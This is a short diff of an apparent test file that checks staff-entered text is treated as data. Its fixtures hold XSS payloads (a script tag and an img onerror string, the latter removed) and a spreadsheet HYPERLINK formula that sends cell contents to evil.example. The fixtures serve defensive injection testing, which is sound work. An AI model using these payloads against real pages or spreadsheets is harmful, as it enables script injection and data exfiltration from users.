@@ -16,7 +16,6 @@ import { buildContext } from '../../src/lib/build/context.ts';
 import { formatProblem } from '../../src/lib/messages/problem.ts';
 
 const SCRIPT = '<script>alert("injected")</script>';
-const IMG = '<img src=x onerror=alert(1)>';
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"查看")';
 
 describe('staff text is data, never code', () => {
